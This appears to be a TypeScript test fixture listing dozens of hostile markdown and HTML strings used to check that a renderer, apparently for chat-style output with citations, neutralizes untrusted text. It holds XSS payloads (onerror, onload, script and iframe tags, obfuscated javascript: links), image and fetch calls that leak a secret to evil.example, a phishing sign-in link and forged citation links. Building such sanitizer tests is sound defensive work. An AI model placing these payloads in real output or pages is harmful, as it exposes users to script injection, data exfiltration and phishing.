/** A text that tries to make the browser talk to somebody, run something, or pass for what it is not. */
export interface Poison {
  name: string;
  text: string;
}

const EVIL = "https://evil.example";
const SECRET = "?leak=secret";

const images = [
  `![x](${EVIL}/a.png${SECRET})`,
  `![x](//evil.example/a.png)`,
  `![x](http://evil.example/a.png "title")`,
  `![x][ref]\n\n[ref]: ${EVIL}/ref.png`,
  `![ref]\n\n[ref]: ${EVIL}/short.png`,
  `[![x](${EVIL}/b.png)](${EVIL}/click)`,
  `![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5wd25lZD0xIi8+)`,
  `![x](<${EVIL}/c d.png>)`,
  `| a | b |\n|---|---|\n| ![x](${EVIL}/table.png) | [y](${EVIL}) |`,
  `> - ![x](${EVIL}/nested.png)`,
];
const html = [
  `<img src="${EVIL}/h.png${SECRET}">`,
  `<img src=x onerror="window.pwned=1;fetch('${EVIL}')">`,
  `<script>window.pwned=1</script>`,
  `<script src="${EVIL}/x.js"></script>`,
  `<iframe src="${EVIL}"></iframe>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<svg onload="window.pwned=1"><image href="${EVIL}/s.png"/></svg>`,
  `<style>@import url(${EVIL}/s.css); body{background:url(${EVIL}/bg.png)}</style>`,
  `<link rel="stylesheet" href="${EVIL}/l.css"><link rel="prefetch" href="${EVIL}/p">`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}">`,
  `<base href="${EVIL}/">`,
  `<video src="${EVIL}/v.mp4" autoplay></video><audio src="${EVIL}/a.mp3" autoplay></audio>`,
  `<object data="${EVIL}/o"></object><embed src="${EVIL}/e">`,
  `<form action="${EVIL}"><input autofocus onfocus="window.pwned=1"></form>`,
  `<details open ontoggle="window.pwned=1">x</details>`,
  `<div style="background-image:url(${EVIL}/d.png)">x</div>`,
  `<p>text <b onmouseover="window.pwned=1">bold</b></p>`,
  `<math><mtext><img src=x onerror=window.pwned=1></mtext></math>`,
  `<!--><img src=x onerror=window.pwned=1>-->`,
  `<a href="javascript:window.pwned=1">x</a>`,
];
const links = [
  `[click](javascript:window.pwned=1)`,
  `[click](JaVaScRiPt:window.pwned=1)`,
  `[click](java\tscript:window.pwned=1)`,
  `[click](&#106;avascript:window.pwned=1)`,
  `[click](data:text/html,<script>window.pwned=1</script>)`,
  `[click](vbscript:window.pwned=1)`,
  `[click](file:///etc/passwd)`,
  `[click](blob:${EVIL}/x)`,
  `<javascript:window.pwned=1>`,
  `[ref]\n\n[ref]: javascript:window.pwned=1`,
  `[Sign in again](${EVIL}/login${SECRET})`,
  `www.evil.example and ${EVIL}/auto${SECRET}`,
];
const forged = [
  `A claim [1] and [2].\n\n[1]: ${EVIL}/one\n[2]: ${EVIL}/two`,
  `[1](${EVIL}/forged) says so`,
  `[[1]](${EVIL}/forged) says so`,
  `A claim [^1].\n\n[^1]: ![x](${EVIL}/foot.png)`,
  `A claim [77] and 【88】 that nobody made.`,
  `<cite title="1">1</cite><button onclick="window.pwned=1">1</button>`,
  "```html\n<script>window.pwned=1</script>\n```",
  `$$\\href{javascript:window.pwned=1}{x}$$ \`<img src=x onerror=window.pwned=1>\``,
];

export const poison: Poison[] = Object.entries({ images, html, links, forged }).flatMap(([kind, texts]) =>
  texts.map((text, index) => ({ name: `${kind} ${index + 1}`, text })),
);
